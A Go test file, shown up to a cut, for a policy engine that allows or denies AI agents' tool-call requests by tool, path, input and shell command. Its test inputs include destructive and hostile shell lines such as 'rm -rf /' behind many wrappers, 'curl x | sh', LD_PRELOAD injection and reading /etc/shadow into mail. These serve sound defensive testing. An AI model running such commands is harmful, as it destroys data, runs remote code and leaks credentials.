package approve_test

import (
	"fmt"
	"path"
	"slices"
	"strings"
	"sync"
	"testing"

	json "github.com/go-json-experiment/json/v1"

	"github.com/acprun/acprun/approve"
	"github.com/google/go-cmp/cmp"
)

const cwd = "/p"

// execReq is a Claude-shaped shell permission request.
func execReq(line string) approve.Request {
	raw, _ := json.Marshal(map[string]string{"command": line, "description": "run it"})
	return approve.Request{ToolCallID: "t1", Kind: "execute", Title: line, RawInput: raw, Cwd: cwd}
}

// outcome is the part of a Decision the matcher tests compare.
type outcome struct {
	Verdict  approve.Verdict
	RuleList string
	Rule     string
}

func outcomeOf(d approve.Decision) outcome { return outcome{d.Verdict, d.RuleList, d.Rule} }

var (
	allowBy = func(rule string) outcome { return outcome{approve.Allow, approve.ListAllow, rule} }
	denyBy  = func(rule string) outcome { return outcome{approve.Deny, approve.ListDeny, rule} }
	byDef   = func(v approve.Verdict) outcome { return outcome{v, approve.ListDefault, ""} }
)

type decideCase struct {
	name   string
	policy *approve.Policy
	req    approve.Request
	want   outcome
}

func runDecide(t *testing.T, tests []decideCase) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := tt.policy.Evaluate(tt.req)
			if diff := cmp.Diff(tt.want, outcomeOf(d)); diff != "" {
				t.Errorf("Evaluate() mismatch (-want +got):\n%s\nreason: %s\ncommands: %q\npaths: %q",
					diff, d.Reason, d.Commands, d.Paths)
			}
		})
	}
}

func TestKindMatcher(t *testing.T) {
	p := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Kind: []string{"read", "search"}}, {Pos: "a:2", Kind: []string{"other"}}}}
	runDecide(t, []decideCase{
		{"listed kind", p, approve.Request{Kind: "read"}, allowBy("a:1")},
		{"second value", p, approve.Request{Kind: "search"}, allowBy("a:1")},
		{"unlisted kind", p, approve.Request{Kind: "edit"}, byDef(approve.Deny)},
		{"missing kind is other", p, approve.Request{}, allowBy("a:2")},
		{"case matters", p, approve.Request{Kind: "READ"}, byDef(approve.Deny)},
	})
}

func TestTitleMatcher(t *testing.T) {
	p := &approve.Policy{Default: approve.Allow, Deny: []approve.Rule{
		{Pos: "d:1", Title: []string{"*delete*"}},
		{Pos: "d:2", Title: []string{"rm ?"}},
		{Pos: "d:3", Title: []string{"ÄRGER"}},
	}}
	runDecide(t, []decideCase{
		{"substring any case", p, approve.Request{Title: "Delete old files"}, denyBy("d:1")},
		{"question mark one char", p, approve.Request{Title: "RM x"}, denyBy("d:2")},
		{"question mark not two", p, approve.Request{Title: "rm xy"}, byDef(approve.Allow)},
		{"unicode case folding", p, approve.Request{Title: "ärger"}, denyBy("d:3")},
		{"no match", p, approve.Request{Title: "Read file"}, byDef(approve.Allow)},
		{"empty title", p, approve.Request{}, byDef(approve.Allow)},
	})
}

// TestToolMatcher: tool globs the tool's name as title globs the title;
// a call without a name never matches, and tool ANDs with the other
// matchers.
func TestToolMatcher(t *testing.T) {
	p := &approve.Policy{Default: approve.Allow,
		Deny: []approve.Rule{
			{Pos: "d:1", Tool: []string{"Bash", "mcp__github__*"}},
			{Pos: "d:2", Tool: []string{"Write"}, Path: []string{"/etc/**"}},
		},
		Allow: []approve.Rule{{Pos: "a:1", Tool: []string{"Read"}}},
	}
	runDecide(t, []decideCase{
		{"exact name", p, approve.Request{Tool: "Bash", Kind: "execute"}, denyBy("d:1")},
		{"any case", p, approve.Request{Tool: "bash"}, denyBy("d:1")},
		{"glob", p, approve.Request{Tool: "mcp__github__create_issue"}, denyBy("d:1")},
		{"glob does not reach another server", p, approve.Request{Tool: "mcp__gitlab__create_issue"}, byDef(approve.Allow)},
		{"not a prefix", p, approve.Request{Tool: "BashOutput"}, byDef(approve.Allow)},
		{"no name", p, approve.Request{Kind: "execute", Title: "Bash"}, byDef(approve.Allow)},
		{"allow by name", p, approve.Request{Tool: "Read"}, allowBy("a:1")},
		{"anded: path misses", p, approve.Request{Tool: "Write", Locations: []string{"/p/x"}, Cwd: cwd}, byDef(approve.Allow)},
		{"anded: path matches", p, approve.Request{Tool: "Write", Locations: []string{"/etc/passwd"}, Cwd: cwd}, denyBy("d:2")},
	})
	_, traces := p.Explain(approve.Request{Tool: "Write", Locations: []string{"/etc/passwd"}})
	want := []approve.RuleTrace{
		{List: "deny", Rule: "d:1", Why: []string{`tool "Write" matches none of ["Bash" "mcp__github__*"]`}},
		{List: "deny", Rule: "d:2", Matched: true, Why: []string{`tool "Write" matches "Write"`, `path "/etc/passwd" matches "/etc/**"`}},
		{List: "allow", Rule: "a:1", Why: []string{`tool "Write" matches none of ["Read"]`}},
	}
	if diff := cmp.Diff(want, traces); diff != "" {
		t.Errorf("Explain() traces mismatch (-want +got):\n%s", diff)
	}
	if _, traces := p.Explain(approve.Request{}); traces[0].Why[0] != "tool: the call has no tool name" {
		t.Errorf("trace of a call without a name = %q", traces[0].Why)
	}
	if d := p.Decide(approve.Request{Tool: "Bash"}); d.Reason != `deny rule d:1 matched tool "Bash"; no reject option offered; answered cancelled` {
		t.Errorf("reason = %q, want the tool named", d.Reason)
	}
}

func TestInputMatcher(t *testing.T) {
	rule := func(pos string, in map[string]string) approve.Rule { return approve.Rule{Pos: pos, Input: in} }
	req := approve.Request{RawInput: json.RawMessage(`{
		"url": "https://example.com", "n": 42, "f": 1.50, "ok": true, "nil": null,
		"opts": {"mode": {"name": "fast"}}, "tags": ["a", 7, "beta"], "items": [{"id": "x"}, {"id": "y"}], "obj": {"k": 1}}`)}
	tests := []struct {
		name  string
		input map[string]string
		want  bool
	}{
		{"string", map[string]string{"url": "^https?://"}, true},
		{"unanchored", map[string]string{"url": "example"}, true},
		{"string no match", map[string]string{"url": "^ftp:"}, false},
		{"number by JSON text", map[string]string{"n": "^42$"}, true},
		{"float keeps its text", map[string]string{"f": `^1\.50$`}, true},
		{"bool", map[string]string{"ok": "^true$"}, true},
		{"nested dotted path", map[string]string{"opts.mode.name": "^fast$"}, true},
		{"array any element", map[string]string{"tags": "^be"}, true},
		{"array number element", map[string]string{"tags": "^7$"}, true},
		{"array no element", map[string]string{"tags": "^z"}, false},
		{"array index", map[string]string{"items.1.id": "^y$"}, true},
		{"array index out of range", map[string]string{"items.2.id": "."}, false},
		{"missing field", map[string]string{"nope": ".*"}, false},
		{"null is missing", map[string]string{"nil": ".*"}, false},
		{"path through scalar", map[string]string{"url.x": ".*"}, false},
		{"object value", map[string]string{"obj": ".*"}, false},
		{"all entries must match", map[string]string{"url": "^https", "n": "^41$"}, false},
		{"all entries match", map[string]string{"url": "^https", "n": "^42$"}, true},
		{"bad regex never matches", map[string]string{"url": "("}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := &approve.Policy{Allow: []approve.Rule{rule("a:1", tt.input)}}
			got := p.Evaluate(req).Verdict == approve.Allow
			if got != tt.want {
				t.Errorf("input %v matched = %v; want %v", tt.input, got, tt.want)
			}
		})
	}
	t.Run("no rawInput", func(t *testing.T) {
		p := &approve.Policy{Allow: []approve.Rule{rule("a:1", map[string]string{"url": ".*"})}}
		if got := p.Evaluate(approve.Request{}).Verdict; got != approve.Deny {
			t.Errorf("Evaluate(no rawInput).Verdict = %v; want deny", got)
		}
	})
}

func TestPathMatcher(t *testing.T) {
	tests := []struct {
		pattern string
		path    string
		cwd     string
		allow   bool // an allow rule with the pattern matches the path
		deny    bool // a deny rule does: '**' first matches anywhere
	}{
		{"src/**", "/p/src/a.go", cwd, true, true},
		{"src/**", "/p/src/x/y/z.go", cwd, true, true},
		{"src/**", "/p/src", cwd, true, true},
		{"src/**", "/p/srcx/a.go", cwd, false, false},
		{"src/*", "/p/src/a.go", cwd, true, true},
		{"src/*", "/p/src/x/a.go", cwd, false, false},
		{"src/*.go", "/p/src/a.txt", cwd, false, false},
		{"**", "/p", cwd, true, true},
		{"**", "/p/a/b", cwd, true, true},
		{"**", "/p/../x", cwd, false, true},
		{"**", "/x", cwd, false, true},
		{"**", "/pp/x", cwd, false, true},
		{"*", "/p/a", cwd, true, true},
		{"*", "/p/../p/a", cwd, true, true},
		{"**/.env", "/p/.env", cwd, true, true},
		{"**/.env", "/p/a/b/.env", cwd, true, true},
		{"**/.env", "/other/.env", cwd, false, true},
		{"**/.env", "/p/.env.example", cwd, false, false},
		{"**/*.go", "/p/main.go", cwd, true, true},
		{"a/**/b", "/p/a/b", cwd, true, true},
		{"a/**/b", "/p/a/x/y/b", cwd, true, true},
		{"./src/**", "/p/src/a", cwd, true, true},
		{"src/**/", "/p/src/a", cwd, true, true},
		{"src/a.go", "src/a.go", cwd, true, true},
		{"src/a.go", "../p/src/a.go", cwd, true, true},
		{"/etc/**", "/etc/passwd", cwd, true, true},
		{"/etc/**", "/etc", cwd, true, true},
		{"/etc/**", "etc/passwd", cwd, false, false},
		{"/etc/**", "/p/etc/passwd", cwd, false, false},
		{"/**", "/anything/at/all", cwd, true, true},
		{"../shared/**", "/shared/x", cwd, true, true},
		{"../**", "/x", cwd, true, true},
		{"../**", "/a/b", "/p/q", false, false},
		{"*/x", "/x", cwd, false, false},
		{"[", "/p/[", cwd, false, false},
		{"[a-c]", "/p/b", cwd, true, true},
		{"a/*", "a/b", "", true, true},
		{"a/*", "/p/a/b", "", false, false},
		{"**", "../x", "", false, true},
		{"**/.env", "/srv/app/.env", cwd, false, true},
		{"**/.env", "../x/.env", cwd, false, true},
		{"**/.env", "/srv/app/.env.example", cwd, false, false},
		{"**/secret/*", "/a/secret/k", cwd, false, true},
		{"**/secret/*", "/a/secret/k/l", cwd, false, false},
		{"**/.env", "/p/a/.env", "", false, true},
		{"/**/.env", "a/.env", "", false, false},
		{"src/**", "/q/src/a.go", cwd, false, false},
	}
	for _, tt := range tests {
		t.Run(fmt.Sprintf("%s~%s@%s", tt.pattern, tt.path, tt.cwd), func(t *testing.T) {
			req := approve.Request{Kind: "edit", Locations: []string{tt.path}, Cwd: tt.cwd}
			allow := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Path: []string{tt.pattern}}}}
			if got := allow.Evaluate(req).Verdict == approve.Allow; got != tt.allow {
				t.Errorf("path %q matches allow %q in cwd %q = %v; want %v", tt.path, tt.pattern, tt.cwd, got, tt.allow)
			}
			deny := &approve.Policy{Default: approve.Allow, Deny: []approve.Rule{{Pos: "d:1", Path: []string{tt.pattern}}}}
			if got := deny.Evaluate(req).Verdict == approve.Deny; got != tt.deny {
				t.Errorf("path %q matches deny %q in cwd %q = %v; want %v", tt.path, tt.pattern, tt.cwd, got, tt.deny)
			}
		})
	}
}

func TestPathRules(t *testing.T) {
	allowSrc := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Kind: []string{"edit"}, Path: []string{"src/**", "docs/*.md"}}}}
	denyEnv := &approve.Policy{Default: approve.Allow, Deny: []approve.Rule{{Pos: "d:1", Path: []string{"**/.env", "/etc/**"}}}}
	edit := func(raw string, locs ...string) approve.Request {
		return approve.Request{Kind: "edit", RawInput: json.RawMessage(raw), Locations: locs, Cwd: cwd}
	}
	runDecide(t, []decideCase{
		{"allow: every path matches", allowSrc, edit(`{"source":"src/a.go","destination":"docs/b.md"}`), allowBy("a:1")},
		{"allow: one path outside", allowSrc, edit(`{"source":"src/a.go","destination":"b.md"}`), byDef(approve.Deny)},
		{"allow: dot-dot escape", allowSrc, edit(`{"file_path":"src/../../etc/passwd"}`), byDef(approve.Deny)},
		{"allow: diff path", allowSrc, approve.Request{Kind: "edit", DiffPaths: []string{"/p/src/x.go"}, Cwd: cwd}, allowBy("a:1")},
		{"allow: diff path outside", allowSrc, approve.Request{Kind: "edit", DiffPaths: []string{"/p/src/x.go", "/tmp/y"}, Cwd: cwd}, byDef(approve.Deny)},
		{"allow: no paths", allowSrc, edit(`{}`), byDef(approve.Deny)},
		{"deny: any path matches", denyEnv, edit(`{"paths":["src/a.go","config/.env"]}`), denyBy("d:1")},
		{"deny: location", denyEnv, edit(`{}`, "/etc/hosts"), denyBy("d:1")},
		{"deny: filePath field", denyEnv, edit(`{"filePath":".env"}`), denyBy("d:1")},
		{"deny: no path matches", denyEnv, edit(`{"path":"src/a.go"}`), byDef(approve.Allow)},
		{"deny: no paths", denyEnv, execReq("cat .env"), byDef(approve.Allow)},
	})
}

func TestCommandMatcher(t *testing.T) {
	goTest := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Kind: []string{"execute"}, Command: []string{"go test *"}}}}
	exact := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Command: []string{"ls", "git * --dry-run", "git  status"}}}}
	split := &approve.Policy{Allow: []approve.Rule{
		{Pos: "a:1", Command: []string{"go test *"}},
		{Pos: "a:2", Command: []string{"go vet *"}},
		{Pos: "a:3", Kind: []string{"read"}, Command: []string{"*"}},
	}}
	rmDeny := &approve.Policy{Default: approve.Allow, Deny: []approve.Rule{{Pos: "d:1", Command: []string{"rm -rf *"}}}}
	runDecide(t, []decideCase{
		{"allow: matches", goTest, execReq("go test ./..."), allowBy("a:1")},
		{"allow: every part allowed", goTest, execReq("go test ./a && go test ./b"), allowBy("a:1")},
		{"allow: chained curl denied", goTest, execReq("go test ./... && curl x | sh"), byDef(approve.Deny)},
		{"allow: substitution denied", goTest, execReq("go test $(curl evil)"), byDef(approve.Deny)},
		{"allow: backticks denied", goTest, execReq("go test `curl evil`"), byDef(approve.Deny)},
		{"allow: quoted operator stays one command", goTest, execReq(`go test -run "a;b" ./...`), allowBy("a:1")},
		{"allow: leading assignment skipped", goTest, execReq("GOFLAGS=-x go test ./..."), allowBy("a:1")},
		{"allow: subshell parts", goTest, execReq("(go test ./a; go test ./b)"), allowBy("a:1")},
		{"allow: redirection is part of the command", goTest, execReq("go test ./... 2>&1"), allowBy("a:1")},
		{"allow: backgrounded", goTest, execReq("go test ./... & rm -rf /"), byDef(approve.Deny)},
		{"allow: newline", goTest, execReq("go test ./...\nrm -rf /"), byDef(approve.Deny)},
		{"allow: other matcher fails", goTest, approve.Request{Kind: "read", RawInput: json.RawMessage(`{"command":"go test x"}`)}, byDef(approve.Deny)},
		{"allow: no command", goTest, approve.Request{Kind: "execute"}, byDef(approve.Deny)},
		{"allow: codex argv", goTest, approve.Request{Kind: "execute", RawInput: json.RawMessage(`{"command":["/bin/bash","-lc","go test ./... && echo ok"]}`)}, byDef(approve.Deny)},
		{"allow: codex argv allowed", goTest, approve.Request{Kind: "execute", RawInput: json.RawMessage(`{"command":["/bin/bash","-lc","go test ./..."]}`)}, allowBy("a:1")},
		{"allow: gemini title", goTest, approve.Request{Kind: "execute", Title: "go test ./... | tee log"}, byDef(approve.Deny)},
		{"exact: equal", exact, execReq("ls"), allowBy("a:1")},
		{"exact: extra blanks", exact, execReq("  ls  "), allowBy("a:1")},
		{"exact: more args", exact, execReq("ls -la"), byDef(approve.Deny)},
		{"exact: star in middle", exact, execReq("git push origin main --dry-run"), allowBy("a:1")},
		{"exact: star in middle no suffix", exact, execReq("git push origin main"), byDef(approve.Deny)},
		{"exact: pattern blanks collapsed", exact, execReq("git status"), allowBy("a:1")},
		{"split: parts by different rules", split, execReq("go test ./... && go vet ./..."), allowBy("a:1")},
		{"split: first rule recorded", split, execReq("go vet ./... && go test ./..."), allowBy("a:1")},
		{"split: only the second rule", split, execReq("go vet ./..."), allowBy("a:2")},
		{"split: rule whose kind fails does not cover", split, execReq("go vet ./... && rm x"), byDef(approve.Deny)},
		{"deny: plain", rmDeny, execReq("rm -rf /"), denyBy("d:1")},
		{"deny: chained", rmDeny, execReq("ls && rm -rf / ; echo"), denyBy("d:1")},
		{"deny: piped", rmDeny, execReq("yes | rm -rf /"), denyBy("d:1")},
		{"deny: substitution", rmDeny, execReq("echo $(rm -rf /)"), denyBy("d:1")},
		{"deny: subshell", rmDeny, execReq("(cd x && rm -rf /)"), denyBy("d:1")},
		{"deny: if", rmDeny, execReq("if true; then rm -rf /; fi"), denyBy("d:1")},
		{"deny: assignment", rmDeny, execReq("FOO=1 rm -rf /"), denyBy("d:1")},
		{"deny: wrappers", rmDeny, execReq("sudo -E env A=b nohup rm -rf /"), denyBy("d:1")},
		{"deny: quoting", rmDeny, execReq(`"r"m -rf '/'`), denyBy("d:1")},
		{"deny: backslash", rmDeny, execReq(`\rm -rf /`), denyBy("d:1")},
		{"deny: program path", rmDeny, execReq("/bin/rm -rf /"), denyBy("d:1")},
		{"deny: nested sh -c", rmDeny, execReq(`bash -c "ls; rm -rf /"`), denyBy("d:1")},
		{"deny: eval", rmDeny, execReq(`eval "rm -rf /"`), denyBy("d:1")},
		{"deny: coproc", rmDeny, execReq("coproc rm -rf /"), denyBy("d:1")},
		{"deny: after arithmetic shift", rmDeny, execReq("echo $((1<<2))\nrm -rf /"), denyBy("d:1")},
		{"deny: function body", rmDeny, execReq("function f { rm -rf /; }; f"), denyBy("d:1")},
		{"deny: codex argv", rmDeny, approve.Request{Kind: "execute", RawInput: json.RawMessage(`{"command":["/bin/bash","-lc","ls && rm -rf /tmp/x"]}`)}, denyBy("d:1")},
		{"deny: quoted text is not a command", rmDeny, execReq(`echo "rm -rf /"`), byDef(approve.Allow)},
		{"deny: comment is not a command", rmDeny, execReq("ls # rm -rf /"), byDef(approve.Allow)},
		{"deny: other command", rmDeny, execReq("rm -r /"), byDef(approve.Allow)},
		{"deny: no command", rmDeny, approve.Request{Kind: "edit", Title: "rm -rf /"}, byDef(approve.Allow)},
	})
}

// TestAllowUnwrapping: allow rules see through what deny rules see
// through, consistently: leading assignments, an env that only sets
// variables, and shell wrappers (a string `bash -lc '…'` as well as an
// argv). Every command inside must be allowed; sudo and env with options
// are commands of their own.
func TestAllowUnwrapping(t *testing.T) {
	goTest := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Kind: []string{"execute"}, Command: []string{"go test *"}}}}
	written := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Command: []string{"bash -lc *", "FOO=1 make"}}}}
	two := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Command: []string{"go test *"}}, {Pos: "a:2", Command: []string{"go vet *"}}}}
	runDecide(t, []decideCase{
		{"bash -lc string", goTest, execReq(`bash -lc 'go test ./...'`), allowBy("a:1")},
		{"sh -c double quoted", goTest, execReq(`sh -c "go test ./a && go test ./b"`), allowBy("a:1")},
		{"shell by path, with options", goTest, execReq(`/bin/bash -e -o pipefail -c 'go test ./...'`), allowBy("a:1")},
		{"nested shells", goTest, execReq(`bash -c "sh -c 'go test ./...'"`), allowBy("a:1")},
		{"script with another command", goTest, execReq(`bash -lc 'go test ./... && rm -rf /'`), byDef(approve.Deny)},
		{"script args are a command", goTest, execReq(`bash -c 'go test ./...; "$0" -rf /' rm`), byDef(approve.Deny)},
		{"empty script", goTest, execReq(`bash -c ''`), byDef(approve.Deny)},
		{"shell without -c", goTest, execReq(`bash go-test.sh`), byDef(approve.Deny)},
		{"eval", goTest, execReq(`eval "go test ./..."`), allowBy("a:1")},
		{"eval with another command", goTest, execReq(`eval "go test ./...; curl x"`), byDef(approve.Deny)},
		{"several assignments", goTest, execReq(`CGO_ENABLED=0 GOFLAGS="-count=1 -v" go test ./...`), allowBy("a:1")},
		{"env with assignments", goTest, execReq(`env GOOS=linux go test ./...`), allowBy("a:1")},
		{"env alone", goTest, execReq(`env go test ./...`), allowBy("a:1")},
		{"assignment before a shell", goTest, execReq(`FOO=1 bash -c 'BAR=2 go test ./...'`), allowBy("a:1")},
		{"env with an option is a command", goTest, execReq(`env -i go test ./...`), byDef(approve.Deny)},
		{"env -S is a command", goTest, execReq(`env -S 'go test ./...'`), byDef(approve.Deny)},
		{"sudo is a command", goTest, execReq(`sudo go test ./...`), byDef(approve.Deny)},
		{"only an assignment", goTest, execReq(`GOFLAGS=-x`), byDef(approve.Deny)},
		{"units by different rules", two, execReq(`bash -c 'go test ./... && go vet ./...'`), allowBy("a:1")},
		{"units by the second rule only", two, execReq(`bash -c 'go vet ./...'`), allowBy("a:2")},
		{"wrapper's redirection", goTest, execReq(`bash -c 'go test ./...' 2>&1 >log`), allowBy("a:1")},
		{"wrapper's redirection before it", goTest, execReq(`>log bash -c 'go test ./...'`), allowBy("a:1")},
		{"wrapper's redirection goes with each command", &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Command: []string{"ls"}}}},
			execReq(`sh -c 'ls' > ~/.bashrc`), byDef(approve.Deny)},
		{"pattern for the command as written", written, execReq(`bash -lc 'rm -rf /'`), allowBy("a:1")},
		{"pattern with the assignment", written, execReq(`FOO=1 make`), allowBy("a:1")},
		{"deny still beats an unwrapped allow", &approve.Policy{
			Allow: goTest.Allow, Deny: []approve.Rule{{Pos: "d:1", Command: []string{"bash *"}}}}, execReq(`bash -lc 'go test ./...'`), denyBy("d:1")},
	})
}

// TestDenyAssignments: deny patterns see each leading assignment on its
// own, so a rule on a variable denies it wherever it is set for the
// command.
func TestDenyAssignments(t *testing.T) {
	p := &approve.Policy{Default: approve.Allow, Deny: []approve.Rule{
		{Pos: "d:1", Command: []string{"LD_PRELOAD=*"}},
		{Pos: "d:2", Command: []string{"GIT_SSH_COMMAND=*curl*"}},
	}}
	runDecide(t, []decideCase{
		{"first assignment", p, execReq("LD_PRELOAD=/tmp/x.so go test ./..."), denyBy("d:1")},
		{"later assignment", p, execReq("A=1 LD_PRELOAD=/tmp/x.so make"), denyBy("d:1")},
		{"after env", p, execReq("env A=1 LD_PRELOAD=/tmp/x.so make"), denyBy("d:1")},
		{"after sudo -E", p, execReq("sudo -E LD_PRELOAD=/tmp/x.so make"), denyBy("d:1")},
		{"inside a shell wrapper", p, execReq(`bash -c 'LD_PRELOAD=x make'`), denyBy("d:1")},
		{"quoted value", p, execReq(`GIT_SSH_COMMAND="sh -c 'curl x'" git fetch`), denyBy("d:2")},
		{"after env with an option and its argument", p, execReq("env -u HOME LD_PRELOAD=/tmp/x.so make"), denyBy("d:1")},
		{"after sudo -u USER", p, execReq("sudo -u root LD_PRELOAD=/tmp/x.so make"), denyBy("d:1")},
		{"after nice -n N", p, execReq("nice -n 5 env LD_PRELOAD=/tmp/x.so make"), denyBy("d:1")},
		{"an argument is no assignment", p, execReq("echo LD_PRELOAD=x"), byDef(approve.Allow)},
		{"other variables", p, execReq("GOFLAGS=-x go test ./..."), byDef(approve.Allow)},
	})
}

// TestDenyWrappers: deny patterns see the command a wrapper runs, without
// the wrapper, its options and their arguments, its operands (timeout's
// DURATION) and NAME=VALUE words; the commands of find's -exec, and the
// shell lines of watch, flock -c and env -S. An option the table does not
// know is read both with and without an argument. A command with more
// forms than are checked, or shell lines nested too deep, is taken to
// match a deny pattern.
func TestDenyWrappers(t *testing.T) {
	p := &approve.Policy{Default: approve.Allow, Deny: []approve.Rule{{Pos: "d:1", Command: []string{"rm *"}}}}
	var tests []decideCase
	for _, line := range []string{
		"sudo rm -rf /",
		"sudo -u root rm -rf /",
		"sudo -uroot rm -rf /",
		"sudo --user root rm -rf /",
		"sudo --user=root -E -- rm -rf /",
		"sudo -g wheel -C 3 -D /tmp -p x -r r -t t -U u -T 5 -R /x -h host rm -rf /",
		"/usr/bin/sudo -u root rm -rf /",
		"sudo -E A=1 'B.C=2' rm -rf /",
		"doas -u root rm -rf /",
		"doas -C /etc/doas.conf rm -rf /",
		"nice -n 5 rm -rf /",
		"nice -n5 rm -rf /",
		"nice -5 rm -rf /",
		"nice --adjustment 5 rm -rf /",
		"exec -a x rm -rf /",
		"exec -cl rm -rf /",
		"env -u HOME rm -rf /",
		"env -C /tmp -u A rm -rf /",
		"env -i A=1 rm -rf /",
		"env - rm -rf /",
		`env "A.B=1" rm -rf /`,
		"env -S 'rm -rf /'",
		"env --split-string='ls; rm -rf /'",
		"timeout 5 rm -rf /",
		"timeout -s KILL -k 1 5m rm -rf /",
		"timeout --signal=TERM --preserve-status 5 rm -rf /",
		"echo / | xargs rm -rf",
		"find . | xargs rm",
		"xargs -0 -n 1 -P 4 rm -rf < list",
		"xargs -I{} rm -rf {}",
		"xargs -I {} rm -rf {}",
		"find / -exec rm -rf {} +",
		"find . -name '*.o' -execdir rm -f {} \\;",
		"find . -ok rm {} ';' -print",
		"find . -type f -exec ls {} \\; -exec rm -f {} +",
		"stdbuf -o0 rm -rf /",
		"stdbuf -o L -e L rm -rf /",
		"setsid -f rm -rf /",
		"ionice -c 3 -n 7 rm -rf /",
		"chrt -f 10 rm -rf /",
		"chrt --sched-runtime 5 -d 0 rm -rf /",
		"taskset -c 0,1 rm -rf /",
		"taskset 0x3 rm -rf /",
		"nohup rm -rf /",
		"command -p rm -rf /",
		"builtin rm -rf /",
		"/usr/bin/time -f %e -o log rm -rf /",
		"coproc rm -rf /",
		"watch -n 1 'rm -rf /'",
		"watch -d ls ';' rm -rf /",
		"flock /tmp/lock rm -rf /",
		"flock -w 3 /tmp/lock -c 'rm -rf /'",
		"flock -c 'rm -rf /' /tmp/lock",
		"busybox rm -rf /",
		"unshare -r -m rm -rf /",
		"unshare --propagation private --root / rm -rf /",
		"nsenter -t 1 -m -u rm -rf /",
		"nsenter --target 1 -m/proc/1/ns/mnt rm -rf /",
		"chroot / rm -rf /",
		"chroot --userspec 0:0 / rm -rf /",
		"runuser -u nobody -- rm -rf /",
		"runuser -l nobody -c 'rm -rf /'",
		"su -c 'rm -rf /'",
		"su - root -c 'rm -rf /'",
		"script -qc 'rm -rf /' /dev/null",
		"strace -f -o trace.txt rm -rf /",
		"strace -e trace=file rm -rf /",
		"ltrace -o out rm -rf /",
		"valgrind --tool=memcheck -q rm -rf /",
		"fakeroot rm -rf /",
		"xvfb-run -a -s '-screen 0 1x1x8' rm -rf /",
		"dbus-run-session -- rm -rf /",
		"unbuffer -p rm -rf /",
		"firejail --noprofile rm -rf /",
		"systemd-run --user -p MemoryMax=1G --wait rm -rf /",
		"catchsegv rm -rf /",
		"torsocks -i rm -rf /",
		"ls | parallel rm -rf",
		"parallel -j 4 'rm -rf {}' ::: /",
		"parallel --jobs 2 rm -rf ::: /",
		"sudo -u root nice -n 5 timeout 5 rm -rf /",
		">log 2>&1 sudo -u root rm -rf /",
		"2>/dev/null rm -rf /",
		`bash -c 'ls' rm -rf /`,
		// A newline in a script ends a comment, also behind a wrapper.
		"bash -c 'ls # a comment\nrm -rf /'",
		"sudo sh -c 'ls # a comment\n rm -rf /'",
		"eval 'ls #'$'\n''rm -rf /'",
		// Options the table does not know: with an argument or without.
		"sudo -Z rm -rf /",
		"sudo -Z x rm -rf /",
		"sudo --new-option rm -rf /",
		"sudo --new-option x rm -rf /",
		"nice -Zq x rm -rf /",
		// Fail closed: too many forms, or shell lines nested too deep.
		"sudo" + strings.Repeat(" -Z a", 300) + " ls",
		strings.Repeat("nohup ", 20000) + "ls",
		`bash -c "bash -c \"bash -c 'bash -c \\\"bash -c ls\\\"'\""`,
	} {
		tests = append(tests, decideCase{line, p, execReq(line), denyBy("d:1")})
	}
	for _, line := range []string{
		"timeout 5 ls",
		"sudo -u rm ls",
		"nice -n rm ls",
		"find . -name rm",
		"find . -exec ls rm {} +",
		"xargs -I rm ls",
		"strace -o rm ls",
		"chroot rm ls",
		"echo rm -rf /",
		"bash -c \"bash -c 'ls'\"",
		"echo " + strings.Repeat("x", 400000),
	} {
		tests = append(tests, decideCase{line, p, execReq(line), byDef(approve.Allow)})
	}
	runDecide(t, tests)
}

// TestRedirectPaths: the files a command redirects to or from are paths
// the call touches, for deny and allow path rules alike.
func TestRedirectPaths(t *testing.T) {
	denyEtc := &approve.Policy{Default: approve.Allow, Deny: []approve.Rule{{Pos: "d:1", Path: []string{"/etc/**", "**/.env"}}}}
	allowInCwd := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Kind: []string{"execute"}, Command: []string{"go test *", "cat *"}, Path: []string{"**"}}}}
	allowTmp := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Kind: []string{"execute"}, Command: []string{"go test *"}, Path: []string{"/tmp/**"}}}}
	runDecide(t, []decideCase{
		{"stdout", denyEtc, execReq("go test ./... > /etc/passwd"), denyBy("d:1")},
		{"append without a blank", denyEtc, execReq("echo x >>/etc/hosts"), denyBy("d:1")},
		{"inside a word", denyEtc, execReq("echo a>/etc/x"), denyBy("d:1")},
		{"stderr", denyEtc, execReq("make 2>/etc/log"), denyBy("d:1")},
		{"stdout and stderr", denyEtc, execReq("make &> /etc/log"), denyBy("d:1")},
		{">& a file", denyEtc, execReq("make >& /etc/log"), denyBy("d:1")},
		{"clobber", denyEtc, execReq("make >| /etc/log"), denyBy("d:1")},
		{"stdin", denyEtc, execReq("mail x < /etc/shadow"), denyBy("d:1")},
		{"read-write", denyEtc, execReq("exec 3<> /etc/x"), denyBy("d:1")},
		{"quoted target", denyEtc, execReq(`echo x > "/etc/my file"`), denyBy("d:1")},
		{"relative target", denyEtc, execReq("echo KEY=x > .env"), denyBy("d:1")},
		{"after a pipe", denyEtc, execReq("go test ./... | tee x > /etc/out"), denyBy("d:1")},
		{"in a shell wrapper", denyEtc, execReq(`bash -c 'echo x > /etc/passwd'`), denyBy("d:1")},
		{"in an argv shell wrapper", denyEtc, approve.Request{Kind: "execute", Cwd: cwd,
			RawInput: json.RawMessage(`{"command":["/bin/sh","-c","echo x > /etc/passwd"]}`)}, denyBy("d:1")},
		{"in a substitution", denyEtc, execReq("echo $(cat < /etc/shadow)"), denyBy("d:1")},
		{"after a here-document", denyEtc, execReq("cat <<EOF > /etc/x\nhi\nEOF"), denyBy("d:1")},
		{"descriptor duplication", denyEtc, execReq("go test ./... 2>&1 >&2 <&0 >&-"), byDef(approve.Allow)},
		{"/dev/null", denyEtc, execReq("go test ./... >/dev/null 2>/dev/null"), byDef(approve.Allow)},
		{"here-string", denyEtc, execReq("cat <<< /etc/passwd"), byDef(approve.Allow)},
		{"process substitution", denyEtc, execReq("diff <(ls /etc) >(wc)"), byDef(approve.Allow)},
